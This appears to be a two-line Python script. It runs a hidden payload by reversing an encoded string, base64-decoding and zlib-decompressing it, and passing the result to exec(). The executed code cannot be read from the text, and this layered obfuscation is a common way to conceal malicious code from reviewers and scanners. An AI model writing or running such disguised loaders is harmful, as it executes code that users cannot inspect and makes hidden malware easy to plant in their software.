_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
exec((_)(b'vb43//B9//vYb7id0dzJqCDFYS5C7HHw2KJR2Va2OGvdaggnKHCSaZ+iZCu+1j3Ov6agkEDtaYE0pCnU6x3U7CdBMADgJE8ytzJe'))
